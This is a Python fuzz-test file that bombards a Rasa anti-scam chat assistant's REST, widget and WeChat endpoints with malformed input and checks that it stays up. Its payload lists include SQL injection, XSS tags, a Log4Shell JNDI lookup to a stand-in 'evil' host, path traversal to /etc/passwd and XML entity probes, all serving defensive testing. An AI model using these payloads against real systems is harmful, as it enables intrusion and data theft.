"""The quick slice of the fuzz, in `make test`: generated hostile input against one real
assistant, about 1,800 requests in under a minute. `make fuzz` (bench/fuzz.py) is the
full run, 10,000 requests per endpoint; a slice of its raw-socket probes runs here too
(framing, and the action server, which the hypothesis tests below do not reach).

Every answer must be below 500 (a 4xx refusal, a 429 from rate limiting, or a reply),
and afterwards the assistant still answers a scam description correctly. Hypothesis
generates the input; derandomize=True makes every run send the same cases, so a failure
in CI reproduces locally. `pytest -s tests/e2e/test_fuzz.py` prints how many requests
each endpoint got and how long it took.
"""

import hashlib
import http.client
import itertools
import json
import subprocess
import time
from collections import Counter
from pathlib import Path
from typing import Dict, Optional, Tuple
from urllib.parse import quote, urlsplit
from xml.sax.saxutils import escape

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from bench import fuzz
from tests.e2e.servers import MODEL, REPO, running_assistant

TOKEN = "fuzz-wechat-token"
TARGET_CASES = 1350  # the hypothesis cases; make fuzz sends 100,000
MAKE_FUZZ_SLICE = 40  # bench/fuzz.py probes per endpoint
REST = "/webhooks/rest/webhook"
WIDGET = "/chat/webhook"
WECHAT = "/webhooks/wechat/webhook"

SENT: Counter = Counter()  # requests sent, by endpoint
STATUSES: Counter = Counter()  # (endpoint, status) answered
SECONDS: Counter = Counter()  # time spent, by test


def fuzz_settings(examples: int):
    # derandomize: the same cases in every run (CI and here); database=None: nothing
    # written to .hypothesis/; deadline=None: a Rasa turn may take a second under load.
    return settings(
        max_examples=examples, deadline=None, derandomize=True, database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                               HealthCheck.large_base_example],
    )


# ---------------------------------------------------------------------------
# One keep-alive connection to the server


class Client:
    """http.client on one kept-alive connection: thousands of requests without a
    handshake each. A connection the server closed is reopened and the request retried
    once; a request that loses the connection twice is a failure, and when the server
    process died on it, the failure names that request (every later case would fail too,
    and hypothesis would shrink one of those instead)."""

    def __init__(self, base_url: str, process: subprocess.Popen, log: Path) -> None:
        parts = urlsplit(base_url)
        self.host, self.port = parts.hostname, parts.port
        self.process, self.log = process, log
        self.connection: Optional[http.client.HTTPConnection] = None
        self.killer: Optional[str] = None

    def close(self) -> None:
        if self.connection is not None:
            self.connection.close()
            self.connection = None

    def request(
        self, method: str, path: str, body: Optional[bytes] = None,
        headers: Optional[Dict[str, object]] = None,
    ) -> Tuple[int, bytes]:
        if self.killer:
            raise AssertionError(f"the Rasa server died earlier, on {self.killer}")
        SENT[path.split("?")[0]] += 1
        for attempt in (1, 2):
            if self.connection is None:
                self.connection = http.client.HTTPConnection(self.host, self.port, timeout=60)
            try:
                self.connection.request(method, path, body=body, headers=headers or {})
                reply = self.connection.getresponse()
                data = reply.read()
            except (http.client.HTTPException, OSError):
                self.close()
                if attempt == 2:
                    self._check_alive(method, path, body, headers)
                    raise
                continue
            if reply.will_close:
                self.close()
            STATUSES[path.split("?")[0], reply.status] += 1
            return reply.status, data

    def _check_alive(self, method, path, body, headers) -> None:
        try:
            self.process.wait(timeout=5)  # it takes a moment to exit after dropping us
        except subprocess.TimeoutExpired:
            return
        self.killer = f"{method} {path[:300]} body={(body or b'')[:300]!r} headers={headers!r}"
        raise AssertionError(
            f"the Rasa server exited with {self.process.returncode} handling {self.killer}\n"
            f"{self.log.read_text(encoding='utf-8', errors='replace')[-1500:]}"
        )


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    if not MODEL.exists():
        pytest.fail(f"{MODEL} is missing: run `make train` (make test does it for you)")
    workdir = tmp_path_factory.mktemp("fuzz")
    extra_env = {
        "WECHAT_TOKEN": TOKEN,  # so signed requests reach the XML parser and the assistant
        # Generous: the fuzz is thousands of requests from one address and few senders.
        "RATE_LIMIT_PER_SENDER": "100000/60",
        "RATE_LIMIT_PER_IP": "100000/60",
    }
    with running_assistant(workdir, extra_env) as assistant:
        client = Client(assistant.rasa_url, assistant.rasa, workdir / "rasa.log")
        client.assistant = assistant  # for the slice of make fuzz
        yield client
        client.close()


@pytest.fixture(autouse=True)
def timed(request, server):
    if server.killer:  # fail at once rather than let hypothesis try hundreds of cases
        pytest.fail(f"the Rasa server died earlier, on {server.killer}")
    started = time.monotonic()
    yield
    SECONDS[request.node.name] += time.monotonic() - started


def assert_not_5xx(status: int, body: bytes, what: object) -> None:
    assert status < 500, f"{status} for {what!r}: {body[:500]!r}"


def assert_chat_reply(status: int, body: bytes, what: object) -> None:
    """Below 500, and a 200 is the reply contract: a JSON list of messages."""
    assert_not_5xx(status, body, what)
    if status == 200:
        assert isinstance(json.loads(body), list), f"200 but not a list for {what!r}: {body[:500]!r}"


# ---------------------------------------------------------------------------
# Hostile input

INTENTS = [
    i if isinstance(i, str) else next(iter(i))
    for i in yaml.safe_load((REPO / "domain.yml").read_text(encoding="utf-8"))["intents"]
]
HOSTILE_TEXTS = [
    "' OR '1'='1", "'; DROP TABLE events; --", '" OR 1=1 --', "1; SELECT pg_sleep(10)",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "]]><xml>", "<![CDATA[",
    "{bank_name}", "{bank_hotline}", "{0}", "{}", "{{", "}}", "{{7*7}}", "${7*7}",
    "%s%s%s%n", "%(bank_name)s", "%", "${jndi:ldap://evil/a}", "\\", "\\u0000", "\\ud800",
    "/restart", "/session_start", "/session_start{}", "/", "//", "/ ", "/{}", "/.", "/@",
    '/atm_entry{"atm_id": ', '/atm_entry{"atm_id": [1, 2]}', '/atm_entry{"atm_id": null}',
    '/atm_entry{"atm_id": "' + "A" * 5000 + '"}', '/atm_entry{"atm_id": {"$ne": 1}}',
    '/human_handoff{"scam_type": "../../etc/passwd", "risk": "<b>"}', "/money_lost{]",
    '/scam_tax_refund{"requested_slot": "money_gone"}', "/scam_tax_refund@0.5", "/greet@abc",
    '/verify_number{"phone_number": "' + "9" * 4400 + '"}', "/nlu_fallback", "/action_listen",
    '/check_link{"url": "http://[::1"}', '/ask_real_case{"scam_type": 1e999}', "/intent{NaN}",
    "\u202e\u0631\u0648\u0633", "\u200b\u200c\u200d\ufeff\u2060", "😀" * 300, "\U0010ffff",
    "\x00\x01\x1b[31m", "\r\n\r\nHTTP/1.1 200 OK", "../../../etc/passwd", "C:\\Windows\\",
    "http://127.0.0.1@evil.example", "http://[::1", "https://xn--80ak6aa92e.com", "95588-123456",
    "+0012366", "00000000000000000000000000", "1" * 5000, "税务局说退税，让我去ATM" * 100,
    "A" * 20_000, "验" * 20_001, " " * 19_999,
]

surrogates = st.integers(0xD800, 0xDFFF).map(chr)
special_chars = st.sampled_from(list("\u202e\u202d\u200b\u200d\ufeff\u0000\x7f\ufffe\U0001f600\u0301"))
any_text = st.text(st.one_of(st.characters(), surrogates, special_chars), max_size=300)
huge_text = st.builds(lambda s, n: (s or "x") * n, st.text(max_size=3), st.integers(1000, 21_000))
json_suffix = st.one_of(
    st.just(""), st.just("{"), st.just("{}"), st.text(max_size=40),
    st.builds(lambda v: json.dumps(v, ensure_ascii=False), st.dictionaries(
        st.sampled_from(["atm_id", "phone_number", "url", "scam_type", "amount", "x"]),
        st.one_of(st.none(), st.integers(), st.text(max_size=30), st.lists(st.integers())),
        max_size=3)),
)
slash_command = st.builds(
    lambda intent, suffix: f"/{intent}{suffix}",
    st.one_of(st.sampled_from(INTENTS + ["restart", "session_start", "back", "nope"]),
              st.text(max_size=20)),
    json_suffix,
)
message_text = st.one_of(
    st.sampled_from(HOSTILE_TEXTS),
    st.builds(lambda a, b, c: a + b + c, st.text(max_size=20), st.sampled_from(HOSTILE_TEXTS),
              st.text(max_size=20)),
    slash_command,
    any_text,
    huge_text,
)
sender_id = st.one_of(
    st.text(min_size=1, max_size=128), any_text.filter(lambda s: s.strip()),
    st.sampled_from(["' OR 1=1 --", "../../x", "<script>", "%s", "{sender}", "a" * 128, "a" * 129]),
)
json_value = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | any_text,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(any_text, children, max_size=4),
    max_leaves=12,
)
content_types = st.one_of(st.sampled_from([
    "application/json", "application/json; charset=utf-8", "application/json; charset=utf-16",
    "text/plain", "text/xml", "application/xml", "application/x-www-form-urlencoded",
    "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=zz",
    "", "*/*", "application/json; charset=nope", "application/json; charset=\"", "image/png",
]), st.text(st.characters(min_codepoint=0x20, max_codepoint=0xFF), max_size=60))


def header_value(min_size: int = 0, max_size: int = 200):
    # Bytes a client may legally send (no CR, LF or NUL): anything else never reaches us.
    return st.binary(min_size=min_size, max_size=max_size).map(
        lambda b: b.replace(b"\r", b"").replace(b"\n", b"").replace(b"\x00", b"").strip()
    )


header_name = st.text(st.sampled_from("abcdefghijklmnopqrstuvwxyzABCXYZ0123456789-_.!#$%&'*+^`|~"),
                      min_size=1, max_size=30)
extra_headers = st.dictionaries(
    st.one_of(header_name, st.sampled_from([
        "X-Forwarded-For", "X-Real-IP", "Forwarded", "Origin", "Referer", "Cookie", "Accept",
        "Accept-Encoding", "Accept-Language", "User-Agent", "Authorization", "Expect",
        "X-Forwarded-Proto", "X-Forwarded-Host", "Range", "If-None-Match", "Connection-Id",
    ])),
    st.one_of(header_value(), st.sampled_from([
        b"1.2.3.4, 5.6.7.8", b"not-an-ip", b"::1, ::ffff:127.0.0.1", b"999.999.999.999",
        b"for=\"[2001:db8::1]:4711\";proto=https", b"http://[", b"null", b"http://evil.example",
        b"Bearer " + b"a" * 300, b"gzip, deflate, br", b"bytes=0-1,2-3", b"100-continue",
        b"1.2.3.4," * 200,
    ])),
    max_size=5,
)


def encoded(value: str) -> bytes:
    """JSON escapes lone surrogates; a raw body cannot hold them except as invalid UTF-8."""
    return value.encode("utf-8", "surrogatepass")


def query(params) -> str:
    # Percent-encoded, so anything in a value reaches the server (surrogates as bad UTF-8).
    return "&".join(f"{quote(encoded(k), safe='')}={quote(encoded(v), safe='')}" for k, v in params)


# ---------------------------------------------------------------------------
# REST and widget: the same contract and checks


@st.composite
def chat_bodies(draw):
    """A request body for /webhooks/rest/webhook or /chat/webhook, mostly hostile."""
    kind = draw(st.sampled_from(
        ["bytes", "text", "json", "near_shape", "deep", "numbers", "valid", "valid", "valid"]))
    if kind == "bytes":
        return draw(st.binary(max_size=3000))
    if kind == "text":
        return encoded(draw(any_text))
    if kind == "json":
        return json.dumps(draw(json_value)).encode()
    if kind == "near_shape":
        fields = draw(st.fixed_dictionaries(
            {}, optional={"sender": json_value, "message": json_value, "metadata": json_value,
                          "sender ": json_value, "MESSAGE": json_value}))
        return json.dumps(fields).encode()
    if kind == "deep":
        depth = draw(st.sampled_from([50, 1000, 1025, 5000, 100_000]))
        opener, closer = draw(st.sampled_from([("[", "]"), ('{"a":', "}")]))
        inner = draw(st.sampled_from(["1", "", '"x"']))
        where = draw(st.sampled_from(["message", "metadata", "body"]))
        nested = opener * depth + inner + closer * draw(st.sampled_from([depth, 0, depth - 1]))
        if where == "body":
            return nested.encode()
        other = "message" if where == "metadata" else "metadata"
        return f'{{"sender": "deep", "{where}": {nested}, "{other}": {{}}}}'.encode()
    if kind == "numbers":
        number = draw(st.sampled_from(
            ["1" * 5000, "1e999", "-1e999", "NaN", "Infinity", "0x10", "1_000", "01", "1" * 4300]))
        field = draw(st.sampled_from(["sender", "message", "metadata"]))
        return ('{"sender": "n", "message": "hi", "%s": %s}' % (field, number)).encode()
    body = {"sender": draw(sender_id), "message": draw(message_text)}
    if draw(st.booleans()):
        body["metadata"] = draw(st.dictionaries(any_text, json_value, max_size=3))
    ascii_only = draw(st.booleans())
    return json.dumps(body, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")


@fuzz_settings(300)
@given(body=chat_bodies(), content_type=content_types)
# Found by this fuzz: a sender id with a lone surrogate stopped the whole Rasa server.
@example(body=b'{"sender": "\\ud800", "message": "hi"}', content_type="application/json")
def test_rest_webhook(server, body, content_type):
    status, reply = server.request("POST", REST, body, {"Content-Type": content_type})
    assert_chat_reply(status, reply, body[:300])


@fuzz_settings(200)
@given(body=chat_bodies(), content_type=content_types, headers=extra_headers,
       origin=st.one_of(st.none(), st.none(), st.sampled_from([
           "http://127.0.0.1", "null", "http://[", "http://[::1", "https://evil.example",
           "http://a:b@c:99999", "://", "http://%zz", "javascript:alert(1)", " ", "http://localhost:0",
       ]), header_value(max_size=80)))
def test_widget_webhook(server, body, content_type, headers, origin):
    headers = {**headers, "Content-Type": content_type}
    if origin is not None:
        headers["Origin"] = origin
    status, reply = server.request("POST", WIDGET, body, headers)
    assert_chat_reply(status, reply, (body[:300], headers))


@fuzz_settings(200)
@given(body=chat_bodies(), headers=extra_headers,
       method=st.sampled_from(["POST", "POST", "PUT", "GET", "OPTIONS", "DELETE", "PATCH", "HEAD"]),
       path=st.sampled_from([REST, WIDGET]))
def test_hostile_headers_and_methods(server, body, headers, method, path):
    status, reply = server.request(method, path, body, headers)
    assert_not_5xx(status, reply, (method, path, body[:300], headers))


query_value = st.one_of(any_text, st.sampled_from(HOSTILE_TEXTS[:40]),
                        huge_text.map(lambda s: s[: len(s) % 3000]))  # some over the 8 KB head limit
query_key = st.one_of(st.sampled_from(["entry", "atm", "v", "callback", "lang", "", "a[]", "__proto__"]),
                      st.text(max_size=12))
raw_query = st.text(st.sampled_from("%&=;+?#/[]{}|\\^`\"'<>$,:@!*()~abcXYZ019"), max_size=120)


@fuzz_settings(150)
@given(path=st.sampled_from(["/chat", "/chat/widget.js", "/chat/widget.css", "/chat/"]),
       params=st.lists(st.tuples(query_key, query_value), max_size=4), raw=st.one_of(st.none(), raw_query),
       headers=extra_headers)
def test_widget_pages_with_hostile_query_strings(server, path, params, raw, headers):
    target = f"{path}?{raw if raw is not None else query(params)}"
    status, reply = server.request("GET", target, None, headers)
    assert_not_5xx(status, reply, (target[:300], headers))


# ---------------------------------------------------------------------------
# WeChat


def wechat_signature(*parts: str) -> str:
    """As WeChat signs: SHA1 of the sorted parts joined (written out here, not imported,
    so a bug in the channel's own signing cannot hide in the test)."""
    return hashlib.sha1("".join(sorted(parts)).encode("utf-8")).hexdigest()


def signed_query(timestamp: Optional[str] = None, nonce: str = "n", **more: str) -> str:
    timestamp = str(int(time.time())) if timestamp is None else timestamp
    params = [("signature", wechat_signature(TOKEN, timestamp, nonce)),
              ("timestamp", timestamp), ("nonce", nonce), *more.items()]
    return query(params)


# What a query value may hold and still be signed: no surrogates (not UTF-8), and not
# blank (a blank value counts as missing).
signable = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=200).filter(str.strip)
wechat_params = st.lists(st.tuples(
    st.sampled_from(["signature", "timestamp", "nonce", "echostr", "msg_signature", "encrypt_type",
                     "openid", "x"]),
    st.one_of(query_value, st.sampled_from(["", "0", "-1", "99999999999999999999", "aes", "1e9"]))),
    max_size=6)


@fuzz_settings(200)
@given(params=wechat_params, raw=st.one_of(st.none(), raw_query), signed=st.booleans(),
       timestamp=st.one_of(st.none(), signable, st.sampled_from(["0", "-1", "9" * 30, " 1", "1e9"])),
       nonce=signable, echostr=st.one_of(signable, query_value))
def test_wechat_verification(server, params, raw, signed, timestamp, nonce, echostr):
    if signed:  # reaches the timestamp check and, when fresh, echoes echostr back
        target = f"{WECHAT}?{signed_query(timestamp, nonce, echostr=echostr)}"
    else:
        target = f"{WECHAT}?{raw if raw is not None else query(params)}"
    status, reply = server.request("GET", target)
    assert_not_5xx(status, reply, target[:500])


def cdata(text: str) -> str:
    return f"<![CDATA[{text}]]>"


xml_text = st.one_of(any_text, st.sampled_from(HOSTILE_TEXTS), message_text)
xml_value = st.one_of(
    xml_text.map(lambda s: escape(s)),
    xml_text.map(cdata),
    st.sampled_from(["", "<a>b</a>", "<a x='1'/>", "]]>", "&amp;", "&bogus;", "&#0;", "&#xD800;",
                     "<![CDATA[]]]]><![CDATA[>]]>", "<Content>nested</Content>", "\x00", "<"]),
)
MSG_TYPES = ["text", "TEXT", "voice", "image", "link", "location", "video", "shortvideo", "file",
             "event", "", "miniprogrampage", "<x/>"]
EVENTS = ["subscribe", "unsubscribe", "SCAN", "LOCATION", "CLICK", "VIEW", "", "nope"]


def xml_safe(text: str) -> str:
    """`text` without the characters XML 1.0 cannot hold (control characters,
    surrogates, U+FFFE/FFFF), so the message gets past the parser to the assistant."""
    return "".join(
        c for c in text
        if c in "\t\n\r" or ("\x20" <= c < "\ud800") or ("\ue000" <= c <= "\ufffd") or c > "\uffff"
    )


MSG_IDS = itertools.count(10**15)  # a new MsgId each time: no retry de-duplication


@st.composite
def wechat_xml(draw):
    """A WeChat message: half of them well formed with hostile text (reaching the
    assistant), half with hostile values and structure (reaching the parser and checks)."""
    if draw(st.booleans()):
        kind = draw(st.sampled_from(["text", "text", "text", "voice", "event", "image"]))
        text = escape(xml_safe(draw(message_text)))
        body = {"text": f"<Content>{text}</Content>",
                "voice": f"<Recognition>{text}</Recognition><MediaId>m</MediaId>",
                "event": f"<Event>{draw(st.sampled_from(EVENTS))}</Event><EventKey>{text}</EventKey>",
                "image": f"<PicUrl>{text}</PicUrl><MediaId>m</MediaId>"}[kind]
        openid = escape(xml_safe(draw(st.text(min_size=1, max_size=40)))) or "o"
        return (f"<xml><ToUserName>gh_account</ToUserName><FromUserName>{openid}</FromUserName>"
                f"<CreateTime>{int(time.time())}</CreateTime><MsgType>{kind}</MsgType>{body}"
                f"<MsgId>{next(MSG_IDS)}</MsgId></xml>").encode("utf-8")
    fields = {
        "ToUserName": draw(st.one_of(st.just(cdata("gh_account")), xml_value)),
        "FromUserName": draw(st.one_of(st.just(cdata("openid-fuzz")), xml_value,
                                       st.just(cdata("o" * 129)))),
        "CreateTime": draw(st.one_of(st.just(str(int(time.time()))), xml_value,
                                     st.sampled_from(["-1", "9" * 40, "1.5"]))),
        "MsgType": draw(st.one_of(st.sampled_from(MSG_TYPES).map(cdata), xml_value)),
        "Content": draw(xml_value),
        "MsgId": draw(st.one_of(st.integers(0, 10**20).map(str), xml_value,
                                st.sampled_from(["9" * 21, "-1", "1e5"]))),
    }
    optional = draw(st.dictionaries(st.sampled_from(
        ["Event", "EventKey", "Recognition", "MediaId", "Format", "PicUrl", "Location_X",
         "Scale", "Label", "Url", "Title", "Ticket", "Encrypt", "Latitude"]),
        st.one_of(st.sampled_from(EVENTS).map(cdata), xml_value), max_size=4))
    fields.update(optional)
    drop = draw(st.lists(st.sampled_from(sorted(fields)), max_size=2))
    parts = [f"<{k}>{v}</{k}>" for k, v in fields.items() if k not in drop]
    if draw(st.booleans()):
        parts = parts + draw(st.lists(st.sampled_from(parts), max_size=2))  # duplicated fields
    prolog = draw(st.sampled_from([
        "", '<?xml version="1.0" encoding="utf-8"?>', '<?xml version="1.0" encoding="gbk"?>',
        '<?xml version="1.0" encoding="nope"?>', '<?xml version="1.1"?>', "\ufeff", "<!-- c -->",
        "<?php echo 1; ?>", "<!DOCTYPE x [<!ENTITY a \"aaaa\">]>", "<!doctype xml>",
    ]))
    root = draw(st.sampled_from(["xml", "xml", "xml", "XML", "root", "xml a='1'"]))
    close = root.split()[0]
    xml = f"{prolog}<{root}>{''.join(parts)}</{close}>"
    if draw(st.integers(0, 9)) == 0:
        xml = xml[: draw(st.integers(0, len(xml)))]  # truncated
    return xml.encode("utf-8", "surrogatepass")


@fuzz_settings(150)
@given(body=st.one_of(wechat_xml(), st.binary(max_size=2000),
                      st.integers(65_000, 70_000).map(lambda n: b"<xml>" + b"a" * n + b"</xml>")),
       params=wechat_params, content_type=content_types)
def test_wechat_messages_unsigned(server, body, params, content_type):
    status, reply = server.request("POST", f"{WECHAT}?{query(params)}", body,
                                   {"Content-Type": content_type})
    assert_not_5xx(status, reply, body[:500])


@fuzz_settings(200)
@given(body=st.one_of(wechat_xml(), wechat_xml(), wechat_xml(), st.binary(max_size=2000)),
       nonce=signable, content_type=content_types)
def test_wechat_messages_signed(server, body, nonce, content_type):
    """Correctly signed, so the XML parser, the message checks and (for text) the
    assistant itself are reached."""
    target = f"{WECHAT}?{signed_query(nonce=nonce)}"
    status, reply = server.request("POST", target, body, {"Content-Type": content_type})
    assert_not_5xx(status, reply, (target, body[:1000]))


# ---------------------------------------------------------------------------
# Afterwards


def test_a_slice_of_make_fuzz(server):
    """bench/fuzz.py's raw-socket probes, MAKE_FUZZ_SLICE per endpoint, with a normal turn
    after them: broken framing on every endpoint, and the action server with and without
    its secret."""
    results = fuzz.run(server.assistant.rasa_url, server.assistant.actions_url,
                       server.assistant.action_secret, MAKE_FUZZ_SLICE, batch=MAKE_FUZZ_SLICE)
    print("\n" + results.table())
    assert results.server_errors == [] and results.hangs == []
    assert set(results.sent) == set(fuzz.ENDPOINTS)
    assert all(count == MAKE_FUZZ_SLICE for count in results.sent.values())


def test_still_answers_after_the_fuzz(server, request):
    """Runs last: the assistant still gives the tax-refund verdict on every channel."""
    turn = json.dumps({"sender": "after-fuzz", "message": "税务局说退税"}, ensure_ascii=False)
    for path in (REST, WIDGET):
        status, reply = server.request("POST", path, turn.encode(), {"Content-Type": "application/json"})
        assert status == 200, (path, status, reply)
        payloads = [m["custom"] for m in json.loads(reply) if "custom" in m]
        assert payloads and payloads[0]["type"] == "scam_assessment", (path, reply)
        assert payloads[0]["scam_type"] == "tax_refund", (path, reply)
    xml = ("<xml><ToUserName><![CDATA[gh]]></ToUserName><FromUserName><![CDATA[after-fuzz]]>"
           f"</FromUserName><CreateTime>{int(time.time())}</CreateTime><MsgType><![CDATA[text]]>"
           "</MsgType><Content><![CDATA[税务局说退税]]></Content><MsgId>42</MsgId></xml>")
    status, reply = server.request("POST", f"{WECHAT}?{signed_query(nonce='after')}", xml.encode())
    assert status == 200 and "诈骗".encode() in reply, (status, reply.decode("utf-8", "replace"))

    total = sum(SENT.values())
    print(f"\nfuzz: {total} requests")
    for path, count in SENT.most_common():
        statuses = sorted((s, n) for (p, s), n in STATUSES.items() if p == path)
        print(f"  {count:5d}  {path}  " + ", ".join(f"{s}: {n}" for s, n in statuses))
    for name, seconds in SECONDS.items():
        print(f"  {seconds:6.1f} s  {name}")
    tracebacks = Path(server.log).read_text(encoding="utf-8", errors="replace").count("Traceback")
    print(f"  {tracebacks} tracebacks in the Rasa server's log")
    fuzz_tests = [i for i in request.session.items if i.module is request.module]
    if len(fuzz_tests) == len([n for n in dir(request.module) if n.startswith("test_")]):
        assert total >= TARGET_CASES, SENT
